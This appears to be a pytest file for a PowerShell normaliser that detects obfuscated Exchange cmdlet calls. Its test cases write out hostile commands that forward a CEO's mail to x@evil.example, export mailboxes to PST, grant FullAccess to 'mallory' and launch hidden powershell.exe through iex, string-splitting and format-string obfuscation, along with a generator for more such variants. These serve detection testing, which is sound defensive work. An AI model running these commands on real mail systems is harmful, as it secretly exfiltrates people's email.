"""app/normalise/powershell_commands.py and powershell_tokens.py through cmdlet_text.find_invocations:
each way of writing an Exchange cmdlet call that PowerShell runs is found with its full parameter
names, and each way of naming one that runs nothing is not. CORPUS and variants() also feed the
tree-sitter oracle (tests/test_powershell_oracle.py) and the screening differential
(tests/test_optimisations_differential.py)."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.normalise import cmdlet_text
from app.normalise.cmdlet_text import cmdlet_pattern, find_invocations
from app.normalise.powershell_commands import invocations
from app.normalise.powershell_names import DEFAULT_ALIASES, resolve_alias, resolve_parameter
from app.problems import ProblemLog

CMDLETS = ["New-InboxRule", "Set-InboxRule", "Set-Mailbox", "New-MailboxExportRequest", "Add-MailboxPermission",
           "New-TransportRule", "Set-Alias", "Invoke-Expression"]
PATTERN = cmdlet_pattern(CMDLETS[:6])

# (script, [(cmdlet, {parameter: value})] it calls). Written as scripts are: 4104 blocks and
# the scripts command lines carry.
CASES = [
    ("New-In`boxRule -Mailbox ceo -ForwardTo x@evil.example",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x@evil.example"})]),
    ("New-InboxRule -Mailbox ceo `\r\n    -ForwardTo x@evil.example\r\nGet-Date",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x@evil.example"})]),
    ("$p=@{Mailbox='ceo';ForwardTo='x@evil.example'}; New-InboxRule @p",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x@evil.example"})]),
    ("$p = [ordered]@{\n  Mailbox = 'ceo'\n  ForwardAsAtt = \"x@evil.example\", 'y@evil.example'\n}\nNew-InboxRule -Name r @p",
     [("New-InboxRule", {"name": "r", "mailbox": "ceo", "forwardasattachmentto": "x@evil.example;y@evil.example"})]),
    ("Set-Alias nir New-InboxRule; nir -Mailbox ceo -RedirectTo x@evil.example",
     [("New-InboxRule", {"mailbox": "ceo", "redirectto": "x@evil.example"})]),
    ("sal -Name smb -Value 'Set-Mailbox'\nsmb ceo -ForwardingSmtp x@evil.example",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x@evil.example"})]),
    ("& ('New-'+'InboxRule') -Mailbox ceo -ForwardTo x@evil.example",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x@evil.example"})]),
    ("& \"New-InboxRule\" -Mailbox ceo -ForwardTo x; . 'Set-Mailbox' ceo -ForwardingAddress m",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x"}), ("Set-Mailbox", {"identity": "ceo", "forwardingaddress": "m"})]),
    ("iex (\"Set-Mail\"+\"box ceo -ForwardingSmtpAddress x@evil.example\")",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x@evil.example"})]),
    ("Invoke-Expression -Command 'Set-Mailbox ceo -DeliverToMailboxAnd $false -ForwardingSmtp x@e.example'",
     [("Set-Mailbox", {"identity": "ceo", "delivertomailboxandforward": "$false", "forwardingsmtpaddress": "x@e.example"})]),
    ("$a = 'New-'; $b = 'MailboxExportRequest'; & ($a + $b) -Mailbox ceo -FileP \\\\fs\\s\\ceo.pst",
     [("New-MailboxExportRequest", {"mailbox": "ceo", "filepath": "\\\\fs\\s\\ceo.pst"})]),
    ("& (Get-Command New-InboxRule) -Mailbox ceo -ForwardTo x",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x"})]),
    ("Set-Mailbox ceo \u2013ForwardingSmtpAddress x@evil.example \u2014DeliverToMailboxAndForward:$false",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x@evil.example", "delivertomailboxandforward": "$false"})]),
    ("Add-MailboxPermission ceo -Us mallory -AccessR FullAccess -AutoMapping:$false",
     [("Add-MailboxPermission", {"identity": "ceo", "user": "mallory", "accessrights": "FullAccess",
                                 "automapping": "$false"})]),
    ("ExchangeOnlineManagement\\Set-Mailbox -Identity ceo -ForwardingSmtpAddress x",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x"})]),
    ("if ($ok) { Invoke-Command -ScriptBlock { New-InboxRule -Mailbox ceo -ForwardTo x } }",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x"})]),
    ("$r = New-InboxRule -Name (Get-Date -Format o) -ForwardTo @('a@x.example', 'b@x.example')",
     [("New-InboxRule", {"name": "Get-Date -Format o", "forwardto": "a@x.example;b@x.example"})]),
    ("powershell.exe -nop -w hidden -c \"New-InboxRule -Mailbox ceo -ForwardTo x; exit\"",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x"})]),
    ("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" \u2013ExecutionPolicy Bypass Set-Mailbox ceo "
     "-ForwardingSmtpAddress x", [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x"})]),
    ("cmd.exe /c powershell -Command \"Set-Mailbox ceo -ForwardingAddress m\"",
     [("Set-Mailbox", {"identity": "ceo", "forwardingaddress": "m"})]),
    ("\"Set-Mailbox ceo -ForwardingSmtpAddress x\" | iex",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x"})]),
    ("& ('{1}{0}' -f 'InboxRule','New-') -Mailbox ceo -ForwardTo x",
     [("New-InboxRule", {"mailbox": "ceo", "forwardto": "x"})]),
    ("('{0}box ceo -Forwarding{1} x' -F 'Set-Mail','SmtpAddress') | Invoke-Expression",
     [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x"})]),
    # Runs nothing: comments, strings, help, an alias used before it is made, ambiguous prefixes kept as written.
    ("<# .SYNOPSIS\n Undoes New-InboxRule -ForwardTo x and Set-Mailbox -ForwardingSmtpAddress y #>\n"
     "# Set-Mailbox ceo -ForwardingSmtpAddress z\nGet-InboxRule | Remove-InboxRule", []),
    ("Write-Host \"New-InboxRule -ForwardTo x\"; 'Set-Mailbox -ForwardingSmtpAddress y' | Out-File a.txt", []),
    ("Get-Help New-MailboxExportRequest; help Set-Mailbox -Parameter ForwardingSmtpAddress; "
     "man New-InboxRule; Get-Command Add-MailboxPermission -Syntax", []),
    ("$doc = @'\nNew-InboxRule -Mailbox ceo -ForwardTo x\n'@\nWrite-Output $doc", []),
    ("New-InboxRule -Mailbox ceo -Forward x", [("New-InboxRule", {"mailbox": "ceo", "forward": "x"})]),
    ("Set-Mailbox ceo -Forwarding x", [("Set-Mailbox", {"identity": "ceo", "forwarding": "x"})]),
    ("Get-Set-Mailbox -x 1; Set-MailboxFolderPermission -Identity x", []),
    ("'Set-Mailbox ceo -ForwardingAddress m' | Write-Output; & ('{2}' -f 'Set-Mailbox') -ForwardingAddress m", []),
    ("powershell.exe -EncodedCommand UwBlAHQALQBNAGEAaQBsAGIAbwB4AA== ; Write-Host Set-Mailbox", []),
]


def test_each_way_of_calling_a_cmdlet_is_read_as_powershell_runs_it():
    for script, expected in CASES:
        assert find_invocations(script, PATTERN) == expected, script


def test_a_script_reads_the_same_screened_and_unscreened(monkeypatch):
    found = [find_invocations(script, PATTERN) for script, _ in CASES]
    monkeypatch.setattr(cmdlet_text, "_ASCII_NAMES", {})
    assert found == [find_invocations(script, PATTERN) for script, _ in CASES]


def test_the_alias_table_and_the_prefix_resolver_are_plain_data_and_functions():
    assert resolve_alias("irm") == "Invoke-RestMethod" and resolve_alias("IWR") == "Invoke-WebRequest"
    assert resolve_alias("iex") == "Invoke-Expression" and DEFAULT_ALIASES["iex"] == "Invoke-Expression"
    assert resolve_alias("nir", {"nir": "New-InboxRule"}) == "New-InboxRule"
    assert resolve_alias("Get-Date") == "Get-Date"
    assert resolve_parameter("Set-Mailbox", "ForwardingSmtp") == "forwardingsmtpaddress"
    assert resolve_parameter("set-mailbox", "Forwarding") == "forwarding"   # ambiguous: PowerShell refuses it
    assert resolve_parameter("New-InboxRule", "ForwardAsAtt") == "forwardasattachmentto"
    assert resolve_parameter("New-InboxRule", "ea") == "erroraction"
    assert resolve_parameter("Unknown-Cmdlet", "Forw") == "forw"


def test_default_aliases_are_found_and_screened_as_their_command(monkeypatch):
    pattern = cmdlet_pattern(["Invoke-RestMethod", "Invoke-WebRequest"])
    script = "irm https://graph.microsoft.com/v1.0/me/messages -Headers $h; IWR -Uri https://x.example -Method Post"
    expected = [("Invoke-RestMethod", {"headers": "$h", "uri": "https://graph.microsoft.com/v1.0/me/messages"}), ("Invoke-WebRequest", {"uri": "https://x.example", "method": "Post"})]
    assert find_invocations(script, pattern) == expected
    monkeypatch.setattr(cmdlet_text, "_ASCII_NAMES", {})
    assert find_invocations(script, pattern) == expected


def test_aliases_defined_in_a_script_last_through_the_strings_it_runs():
    found, _ = invocations("Set-Alias x Invoke-Expression; x 'Set-Alias nir New-InboxRule'; nir -ForwardTo a")
    assert [(i.name, i.depth) for i in found] == [("Set-Alias", 0), ("Invoke-Expression", 0), ("Set-Alias", 1),
                                                  ("New-InboxRule", 0)]


def test_an_alias_is_used_only_after_it_is_made():
    assert find_invocations("nir -ForwardTo x; Set-Alias nir New-InboxRule", PATTERN) == []


@pytest.mark.parametrize("hostile", [
    "(" * 5000 + "New-InboxRule -ForwardTo x",
    "{" * 5000 + "@{" * 3000 + "$(" * 3000,
    "iex '" * 200 + "New-InboxRule -ForwardTo x",
    "\"" + "`" * 10001,
    "@'\n" * 1000,
    "$" * 5000 + "@" * 5000 + "-" * 5000 + "[" * 5000,
    "& " * 5000,
    "Set-Alias a b;" * 2000 + "a",
    "$x=" * 40000,
    "return " * 5000,
    "a -b (" * 20000,
    "(" * 300 + "Get-Date" + ")" * 300,
])
def test_hostile_scripts_are_read_within_their_budget(hostile):
    """No exception and no recursion error, and a call written before the hostile part is found."""
    problems = ProblemLog()
    found = find_invocations("New-InboxRule -ForwardTo x\n" + hostile, PATTERN, problems)
    assert found[0] == ("New-InboxRule", {"forwardto": "x"})


def test_nesting_deeper_than_the_reader_follows_is_reported():
    problems = ProblemLog()
    assert find_invocations("(" * 5 + "New-InboxRule -ForwardTo x" + ")" * 5, PATTERN, problems)
    assert not problems.messages()
    find_invocations("(" * 300 + "New-InboxRule -ForwardTo x" + ")" * 300, PATTERN, problems)
    assert any("nests brackets" in message for message in problems.messages())


def test_invoke_expression_nesting_is_bounded():
    script = "New-InboxRule -ForwardTo x"
    for _ in range(10):
        script = "iex '%s'" % script.replace("'", "''")
    assert find_invocations(script, PATTERN) == []   # deeper than MAX_DEPTH strings run by strings
    assert find_invocations("iex 'iex ''New-InboxRule -ForwardTo x'''", PATTERN) == [
        ("New-InboxRule", {"forwardto": "x"})]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("New-InboxRule Set-Mailbox `'\"$@(){}[];|&+=,#<>\r\n\u2013:.iex")),
               max_size=200))
def test_any_text_is_read_without_error_and_screened_soundly(text):
    problems = ProblemLog()
    found = find_invocations(text, PATTERN, problems)
    names = cmdlet_text._ASCII_NAMES
    try:
        cmdlet_text._ASCII_NAMES = {}
        assert find_invocations(text, PATTERN) == found
    finally:
        cmdlet_text._ASCII_NAMES = names


def spelled_script(rng):
    """A script that calls New-InboxRule or Set-Mailbox (or only looks as if it might) with the
    name spelled out of parts: quoted parts joined with + or placed by a -f format string, run
    by a call operator, through a variable or an alias, or inside a string Invoke-Expression or
    powershell.exe runs; parts with backticks, in either quote, among benign joins."""
    name = rng.choice(["New-InboxRule", "Set-Mailbox", "New-InboxRul", "Set-Mail"])
    cuts = sorted(rng.sample(range(1, len(name)), rng.randint(1, 3)))
    parts = [name[a:b] for a, b in zip([0] + cuts, cuts + [len(name)])]
    quote = rng.choice(["'", '"', "\u2018"])
    close = {"\u2018": "\u2019"}.get(quote, quote)
    if rng.random() < 0.3:
        parts = [part[:1] + "`" + part[1:] if len(part) > 1 and part[1] not in "0abefnrtuv" else part
                 for part in parts]
    if rng.random() < 0.5:
        spelled = rng.choice([" + ", "+", "+ ("]).join(quote + part + close for part in parts)
        spelled = spelled + ")" * spelled.count("(")
    else:
        order = list(range(len(parts)))
        rng.shuffle(order)
        template = "".join("{%d}" % order.index(i) for i in range(len(parts)))
        spelled = "%s%s%s -f %s" % (quote, template, close, ",".join(quote + parts[i] + close for i in order))
    form = rng.choice(["& (%s) -ForwardTo x", "$a = %s; & $a -ForwardTo x", ". (%s) -ForwardTo x",
                       "sal r (%s); r -ForwardTo x", "iex ((%s) + ' -ForwardTo x')",
                       "iex (%s)", "$s = %s; iex $s", "Write-Host (%s)"])
    script = form % spelled
    if rng.random() < 0.25:
        # Run as a script: pieces that are no part of a name, and the runner itself spelled out of parts.
        cut = rng.randrange(1, len(name))
        runner = rng.choice(["iex", "Invoke-Expression", "& ('i'+'ex')", "& ('{1}{0}' -f 'x','ie')"])
        script = "%s ('$q = 1; %s' + '%s -ForwardTo x')" % (runner, name[:cut], name[cut:])
    if rng.random() < 0.2:
        script = 'powershell -c "%s"' % script.replace('"', '\\"')
    noise = rng.choice(["", "$t = 'Files: ' + $n; ", "# note\n", "'{0} MB' -f $size; ", "Get-Date; "])
    return noise + script if rng.random() < 0.5 else script + "\n" + noise


def test_names_spelled_out_of_parts_are_read_and_screened_soundly(monkeypatch):
    """Screened = read whole, on 3,000 such scripts; and most of them are calls the reader
    finds, so the comparison is not vacuous."""
    rng = random.Random(27)
    found = 0
    for _ in range(3000):
        script = spelled_script(rng)
        monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
        screened = find_invocations(script, PATTERN)
        with monkeypatch.context() as unscreened:
            unscreened.setattr(cmdlet_text, "_ASCII_NAMES", {})
            unscreened.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
            assert find_invocations(script, PATTERN) == screened, script
        found += bool(screened)
    assert found > 1000, found


def test_the_screening_reads_texts_that_join_parts_of_a_name_and_skips_others():
    names = cmdlet_text.screen_names(["New-InboxRule", "Set-Mailbox"])
    for hiding in ["& ('New-'+'InboxRule') -ForwardTo x", "$a = '{1}{0}' -f 'Rule','New-Inbox'; & $a",
                   "iex ('Write-Host ' + $x)", "& ('ie'+'x') $s", 'powershell -c "& (\\"New-\\"+\\"InboxRule\\")"',
                   "iex \"'a'`n+'b'\""]:
        assert cmdlet_text.may_hide_a_name(hiding, names), hiding
    for plain in ["$total = 'Files: ' + $count; Write-Host $total", "'{0:N2} MB' -f ($size / 1MB)",
                  "$path = $env:TEMP + '\\logs\\' + $name", "Get-Date"]:
        assert not cmdlet_text.may_hide_a_name(plain, names), plain
    # Invoke-Expression spelled from parts none of the names holds runs pieces that are no part of one.
    journal = cmdlet_pattern(["New-JournalRule"])
    script = "& ('ie'+'x') ('$q = 1; New-Journal' + 'Rule -Recipient x@evil.example')"
    assert cmdlet_text.may_hide_a_name(script, cmdlet_text.screen_names(["New-JournalRule"]))
    assert find_invocations(script, journal) == [("New-JournalRule", {"recipient": "x@evil.example"})]


def variants(script, seed):
    """Scripts PowerShell reads as `script`: names in other cases, backticks inside command
    names (before letters that are no escape), CRLF line ends, comments between elements."""
    rng = random.Random(seed)
    words = script.split(" ")
    changed = []
    for word in words:
        if "-" in word[1:] and word[:1].isalpha() and rng.random() < 0.6:
            word = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
            position = rng.randrange(1, len(word))
            if word[position].isalpha() and word[position].lower() not in "0abefnrtuv":
                word = word[:position] + "`" + word[position:]
        changed.append(word)
    joined = (" " * rng.randint(1, 3)).join(changed)
    if rng.random() < 0.5:
        joined = joined.replace("\r\n", "\n").replace("\n", "\r\n")
    if rng.random() < 0.5:
        joined = "<# New-InboxRule -ForwardTo decoy@x.example #>\n" + joined + "\n# Set-Mailbox -ForwardingSmtpAddress y"
    return joined


CORPUS = [script for script, _ in CASES] + [
    "Get-InboxRule -Mailbox bob | Where-Object { $_.ForwardTo } | Select-Object Name, ForwardTo",
    "foreach ($m in Get-Mailbox -ResultSize Unlimited) { Set-Mailbox -Identity $m.Identity -ProhibitSendQuota 50GB }",
    "try { New-TransportRule -Name x -BlindCopyTo a@x.example -ErrorAction Stop } catch { Write-Warning $_ }",
    "$rules = @(Get-TransportRule); $rules | ForEach-Object { Set-TransportRule -Identity $_.Name -Enabled $false }",
]


def test_variants_read_as_their_script():
    for script, expected in CASES:
        if "`" in script or "powershell" in script or "cmd" in script:
            continue
        for seed in range(5):
            found = find_invocations(variants(script, seed), PATTERN)
            assert _spaced(found) == _spaced(expected), (script, seed)


def _spaced(calls):
    """Calls with names in lower case and values' white space as one space (a group's value is its text)."""
    return [(name.lower(), {key: " ".join(value.split()) for key, value in params.items()}) for name, params in calls]


@settings(max_examples=2000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("+-fF (\t\n\u00a0\u3000'\"@$<#\u2018\u201c\u201e_x-")), max_size=12))
def test_the_screening_finds_a_join_where_the_reader_would(text):
    from app.normalise.powershell_commands import CONCATENATION
    assert cmdlet_text._joins(text) == (CONCATENATION.search(text) is not None)


@settings(max_examples=1000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("set-mailboxnw irm-`")), max_size=30))
def test_looking_for_names_by_their_verb_finds_what_looking_for_each_finds(text):
    names = cmdlet_text.screen_names(["Set-Mailbox", "New-InboxRule", "Invoke-RestMethod", "Set-MailUser"])
    assert cmdlet_text.holds_a_name(text, names) == any(name in text for name in names)
